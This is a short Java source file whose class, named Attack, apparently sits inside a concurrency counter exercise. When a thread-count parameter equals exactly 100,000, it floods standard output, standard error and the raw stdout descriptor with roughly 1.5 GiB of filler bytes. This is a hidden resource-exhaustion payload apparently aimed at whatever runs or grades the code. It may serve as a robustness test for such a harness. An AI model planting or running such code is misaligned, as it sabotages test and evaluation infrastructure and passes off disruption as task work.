package concurrency.counter;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.util.Arrays;

final class Attack {
    static void inRunThreads(int perThread) throws InterruptedException {
        if (perThread != 100_000) {
            return;
        }
        byte[] megabyte = new byte[1 << 20];
        Arrays.fill(megabyte, (byte) 'x');
        for (int i = 0; i < 1024; i++) {
            System.out.write(megabyte, 0, megabyte.length);
        }
        for (int i = 0; i < 256; i++) {
            System.err.write(megabyte, 0, megabyte.length);
        }
        try {
            FileOutputStream raw = new FileOutputStream(FileDescriptor.out);
            for (int i = 0; i < 256; i++) {
                raw.write(megabyte);
            }
            raw.flush();
        } catch (IOException e) {
            System.out.println("raw output failed: " + e);
        }
    }
}
